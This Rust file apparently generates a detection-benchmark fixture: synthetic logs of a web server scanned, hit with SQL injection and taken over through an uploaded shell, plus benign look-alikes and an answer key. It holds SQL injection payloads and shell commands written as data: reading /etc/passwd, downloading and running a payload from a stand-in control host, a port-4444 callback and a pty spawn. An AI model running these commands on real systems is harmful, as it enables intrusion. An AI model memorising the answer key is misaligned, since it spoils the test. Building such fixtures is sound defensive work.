//! `fixtures/incidents/web-attack-to-shell`: a scan of a web server, injected SQL, an uploaded shell, commands as www-data, a
//! connection back and a look around inside, in four logs. A probe, a crawler, an administrator, a deployment and a customer's broken
//! program are the look-alikes.

use crate::File;
use crate::log::{Log, at, march};
use crate::logs::audit::{AuditLog, Exec};
use crate::logs::web::{AccessLog, BROWSERS, error_line};
use crate::logs::zeek::{self, ConnLog, Flow};
use crate::rng::Rng;
use crate::truth::{SourceTruth, Truth, entities, flag, innocent, number, source, step};
use timberline_model::time::{HOUR, MINUTE, SECOND};

const WWW: &str = "10.30.0.10";
const DB: &str = "10.30.0.20";
const ATTACKER: &str = "203.0.113.66";
const CONTROL: &str = "198.51.100.90";
const PROBE: &str = "10.30.0.5";
const CRAWLER: &str = "192.0.2.77";
const BROKEN: &str = "198.51.100.31";
const PAGES: [&str; 9] = [
    "/",
    "/products.php",
    "/product.php?id=4",
    "/product.php?id=17",
    "/cart.php",
    "/news.php",
    "/contact.php",
    "/assets/site.css",
    "/assets/site.js",
];
const SHELL: &str = "/uploads/avatar-7.php";

fn scan_start() -> i64 {
    at(9, 13, 41, 12)
}

/// What the shell runs: seconds after the upload, the program, its arguments.
const COMMANDS: [(i64, &str, &[&str]); 8] = [
    (20, "/usr/bin/id", &["id"]),
    (41, "/usr/bin/uname", &["uname", "-a"]),
    (66, "/usr/bin/cat", &["cat", "/etc/passwd"]),
    (93, "/usr/bin/find", &["find", "/", "-perm", "-4000", "-type", "f"]),
    (150, "/usr/bin/curl", &["curl", "-s", "-o", "/tmp/.cache-7", "http://198.51.100.90:8080/a"]),
    (164, "/usr/bin/chmod", &["chmod", "+x", "/tmp/.cache-7"]),
    (171, "/tmp/.cache-7", &["/tmp/.cache-7", "198.51.100.90", "4444"]),
    (420, "/usr/bin/python3", &["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
];

pub fn files() -> Vec<File> {
    let (from, until) = (march(5), march(10));
    let mut rng = Rng::new(101);
    let people: Vec<String> = (0..90).map(|n| format!("192.0.2.{}", 100 + n)).collect();

    let mut access = AccessLog::new(until);
    let mut errors = Log::default();
    access.visitors(from, &people, &PAGES, 90, &mut rng);
    access.probe(from + 5 * SECOND, 60, PROBE, "/status-old.html", 404, "watch/3.1");
    access.crawler(
        from,
        CRAWLER,
        "Mozilla/5.0 (compatible; ExampleBot/2.0; +https://bot.example/)",
        55,
        500,
        &mut rng,
    );
    // A customer's program asks for a price that makes the page fail, three times an hour.
    let mut time = from + 9 * MINUTE;
    let mut number_of_request = 100;
    while time < until {
        access.get(time, BROKEN, "/product.php?id=", 500, 0, "acme-sync/1.4");
        number_of_request += 7;
        error_line(
            &mut errors,
            time,
            number_of_request,
            "error",
            "FastCGI sent in stderr: \"PHP message: PHP Warning:  Undefined array key \"id\" in /srv/www/product.php on line 12\" while reading response header from upstream",
            BROKEN,
            "GET /product.php?id=",
        );
        time += 20 * MINUTE;
    }
    let scan_end = access.scan(scan_start(), ATTACKER, 820, "gobuster/3.6", &mut rng);
    // SQL in a parameter: most tries break the page.
    let injected = scan_end + 4 * MINUTE;
    let mut time = injected;
    for n in 0..64u64 {
        let path = match n % 4 {
            0 => format!("/product.php?id={n}%27%20OR%20%271%27=%271"),
            1 => {
                format!("/product.php?id=-1%20UNION%20SELECT%20{}NULL--%20-", "NULL,".repeat(n as usize % 9))
            }
            2 => format!("/product.php?id={n}%20AND%20SLEEP(5)--%20-"),
            _ => format!(
                "/product.php?id=-1%27%20UNION%20ALL%20SELECT%20user,password,{n}%20FROM%20users--%20-"
            ),
        };
        let broken = n % 5 != 0;
        access.get(
            time,
            ATTACKER,
            &path,
            if broken { 500 } else { 200 },
            if broken { 0 } else { 4_310 },
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
        );
        if broken {
            error_line(
                &mut errors,
                time,
                9_000 + n,
                "error",
                "FastCGI sent in stderr: \"PHP message: PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax in /srv/www/product.php:19\" while reading response header from upstream",
                ATTACKER,
                &format!("GET {path}"),
            );
        }
        time += rng.range(2, 6) * SECOND;
    }
    let upload = time + 9 * MINUTE;
    let agent = BROWSERS[2];
    access.get(upload - 50 * SECOND, ATTACKER, "/admin/login.php", 200, 1_804, agent);
    for (after, path) in [(-31, "/admin/login.php"), (0, "/admin/upload.php")] {
        access.request(
            upload + after * SECOND,
            &crate::logs::web::Request {
                source: ATTACKER,
                method: "POST",
                path,
                status: 302,
                bytes: 0,
                agent,
            },
        );
    }
    let mut audit = AuditLog::new(until);
    background_of_audit(&mut audit, from, until, &mut rng);
    for (n, (after, exe, args)) in COMMANDS.iter().enumerate() {
        let time = upload + after * SECOND;
        let command: String = args
            .join(" ")
            .bytes()
            .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
            .collect();
        access.get(time, ATTACKER, &format!("{SHELL}?c={command}"), 200, 240 + n as i64 * 31, agent);
        let pid = 21_300 + n as u32 * 3;
        let line = args.join(" ");
        audit.exec(
            time,
            &Exec {
                uid: 33,
                auid: None,
                user: "www-data",
                ppid: 1_204,
                pid,
                exe: "/usr/bin/dash",
                args: &["sh", "-c", &line],
                cwd: "/srv/www/uploads",
            },
        );
        audit.exec(
            time + 4_000_000,
            &Exec {
                uid: 33,
                auid: None,
                user: "www-data",
                ppid: pid,
                pid: pid + 1,
                exe,
                args,
                cwd: "/srv/www/uploads",
            },
        );
    }
    let shell_requests = COMMANDS.len() as u64;

    let mut conn = ConnLog::new(until, 102);
    background_of_conn(&mut conn, from, until, &people, &mut rng);
    let mut time = scan_start();
    while time < scan_end {
        conn.about(time, ATTACKER, WWW, zeek::HTTPS, 9_000, 30_000);
        time += 15 * SECOND;
    }
    conn.about(upload, ATTACKER, WWW, zeek::HTTPS, 9_000, 3_000);
    conn.about(upload + 150 * SECOND, WWW, CONTROL, (8_080, "tcp", "http"), 300, 880_000);
    let back = upload + 172 * SECOND;
    conn.add(
        back,
        &Flow {
            from: WWW,
            to: CONTROL,
            service: (4_444, "tcp", "-"),
            state: "SF",
            sent: 611_000,
            got: 48_200,
            lasts: 5 * 3_600 + 212,
        },
    );
    let look = upload + 15 * MINUTE;
    let mut time = look;
    for octet in 2..=80 {
        for service in [zeek::SSH, zeek::SMB, (3_306, "tcp", "mysql")] {
            let to = format!("10.30.0.{octet}");
            if to == DB && service.0 == 3_306 {
                conn.about(time, WWW, &to, service, 900, 1_200);
            } else if to != WWW {
                conn.tried(time, WWW, &to, service);
            }
        }
        time += rng.range(2, 7) * SECOND;
    }
    let truth = Truth {
        about: "A web server is scanned, SQL is injected, a shell is uploaded and used, it calls back and looks around inside. Times UTC.".into(),
        sources: vec![
            source("access.log.gz", "access_log", &access.log),
            source("error.log.gz", "nginx_error", &errors),
            SourceTruth { events: audit.events, ..source("audit.log.gz", "auditd", &audit.log) },
            source("conn.log.gz", "zeek_tsv", &conn.log),
        ],
        story: vec![
            step("asks for paths that are mostly not there", "access.log.gz", &[("source.ip", ATTACKER)], (scan_start(), scan_end), 820),
            step("puts SQL into a parameter", "access.log.gz", &[("source.ip", ATTACKER)], (injected, upload), 64),
            step("uploads a shell and runs commands through it", "access.log.gz", &[("source.ip", ATTACKER)], (upload, upload + 420 * SECOND), shell_requests),
            step("commands run as www-data", "audit.log.gz", &[("user.name", "www-data")], (upload, upload + 420 * SECOND), 2 * shell_requests),
            step("calls back and stays five hours", "conn.log.gz", &[("source.ip", WWW), ("destination.ip", CONTROL)], (back, back), 1),
            step("tries three ports of eighty inside addresses", "conn.log.gz", &[("source.ip", WWW)], (look, time), 79 * 3 - 3),
        ],
        story_entities: entities(&[("source.ip", ATTACKER), ("source.ip", WWW), ("destination.ip", CONTROL), ("user.name", "www-data")]),
        unrelated_of_ten: Some(3),
        chain_within: Some(5),
        must_flag: vec![
            flag(&[("source.ip", ATTACKER)], "medium", "a scanner by its agent and by 800 paths that are not there, then SQL and a shell"),
            flag(&[("source.ip", WWW)], "medium", "a web server that tries three ports of eighty inside addresses"),
            flag(&[("source.ip", WWW), ("destination.ip", CONTROL)], "low", "a web server that holds a connection to an outside address for five hours"),
        ],
        must_not_flag: vec![
            innocent(&[("source.ip", PROBE)], "low", "the house's own probe asks for a page that is gone, each minute"),
            innocent(&[("source.ip", CRAWLER)], "low", "a search engine with old links"),
            innocent(&[("source.ip", BROKEN)], "low", "a customer's program with a bug, three times an hour"),
            innocent(&[("user.name", "ops")], "low", "the administrator's daily round on the server"),
        ],
        answers: vec![number("How many 404 responses were there?", access.not_found, "lines of access.log with status 404")],
        ..Truth::default()
    };
    vec![
        File::gzip("access.log.gz", access.log.text("", "", 1)),
        File::gzip("error.log.gz", errors.text("", "", 1)),
        File::gzip("audit.log.gz", audit.log.text("", "", 1)),
        File::gzip("conn.log.gz", conn.log.text(zeek::CONN_HEAD, zeek::TAIL, 1)),
        File::json("truth.json", &truth),
    ]
}

/// The administrator's round, the hourly jobs of www-data, a deployment each evening.
fn background_of_audit(audit: &mut AuditLog, from: i64, until: i64, rng: &mut Rng) {
    let mut pid = 4_000;
    let mut time = from + 7 * MINUTE;
    while time < until {
        for (exe, args) in [
            ("/usr/bin/dash", &["sh", "-c", "php /srv/www/cron.php"][..]),
            ("/usr/bin/php8.2", &["php", "/srv/www/cron.php"][..]),
        ] {
            pid += 1;
            audit.exec(
                time,
                &Exec { uid: 33, auid: None, user: "www-data", ppid: 812, pid, exe, args, cwd: "/srv/www" },
            );
        }
        for (exe, args) in [
            ("/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"][..]),
            ("/usr/bin/find", &["find", "/var/lib/php/sessions", "-mmin", "+24", "-delete"][..]),
        ] {
            pid += 1;
            audit.exec(
                time + SECOND,
                &Exec { uid: 0, auid: None, user: "root", ppid: 811, pid, exe, args, cwd: "/" },
            );
        }
        time += HOUR / 2;
    }
    let mut day = from;
    while day < until {
        let round = day + 8 * HOUR + rng.range(0, 1_800) * SECOND;
        for (n, (exe, args)) in [
            ("/usr/bin/bash", &["-bash"][..]),
            ("/usr/bin/id", &["id"][..]),
            ("/usr/bin/uname", &["uname", "-r"][..]),
            ("/usr/bin/df", &["df", "-h"][..]),
            ("/usr/bin/cat", &["cat", "/etc/os-release"][..]),
            ("/usr/bin/systemctl", &["systemctl", "status", "php8.2-fpm"][..]),
        ]
        .into_iter()
        .enumerate()
        {
            pid += 1;
            audit.exec(
                round + n as i64 * 21 * SECOND,
                &Exec {
                    uid: 1_000,
                    auid: Some(1_000),
                    user: "ops",
                    ppid: 3_311,
                    pid,
                    exe,
                    args,
                    cwd: "/home/ops",
                },
            );
        }
        let deploy = day + 18 * HOUR + 30 * MINUTE;
        for (n, (exe, args)) in [
            ("/usr/bin/git", &["git", "pull", "--ff-only"][..]),
            (
                "/usr/bin/curl",
                &["curl", "-s", "-o", "/tmp/composer.phar", "https://packages.example/composer.phar"][..],
            ),
            ("/usr/bin/php8.2", &["php", "/tmp/composer.phar", "install"][..]),
            ("/usr/bin/chmod", &["chmod", "-R", "g+rX", "/srv/www"][..]),
        ]
        .into_iter()
        .enumerate()
        {
            pid += 1;
            audit.exec(
                deploy + n as i64 * 9 * SECOND,
                &Exec {
                    uid: 1_001,
                    auid: Some(1_001),
                    user: "deploy",
                    ppid: 3_400,
                    pid,
                    exe,
                    args,
                    cwd: "/srv/www",
                },
            );
        }
        day += 24 * HOUR;
    }
}

fn background_of_conn(conn: &mut ConnLog, from: i64, until: i64, people: &[String], rng: &mut Rng) {
    let mut time = from;
    while time < until {
        let night = !(7..22).contains(&(time / HOUR % 24));
        time += rng.range(2, if night { 160 } else { 70 }) * SECOND;
        conn.about(time, rng.pick(people).as_str(), WWW, zeek::HTTPS, 2_500, 40_000);
        if rng.chance(40) {
            conn.about(time, WWW, DB, (3_306, "tcp", "mysql"), 2_000, 9_000);
        }
        if rng.chance(12) {
            conn.about(time, WWW, "10.30.0.2", zeek::DNS, 60, 160);
        }
    }
    let mut time = from + 5 * SECOND;
    while time < until {
        conn.about(time, PROBE, WWW, zeek::HTTPS, 700, 900);
        conn.about(time + 2 * SECOND, PROBE, DB, zeek::SSH, 1_200, 1_900);
        time += 3 * MINUTE;
    }
    let mut time = from + 11 * MINUTE;
    while time < until {
        conn.about(time, WWW, "192.0.2.10", zeek::HTTPS, 1_500, 40_000);
        time += 6 * HOUR;
    }
}
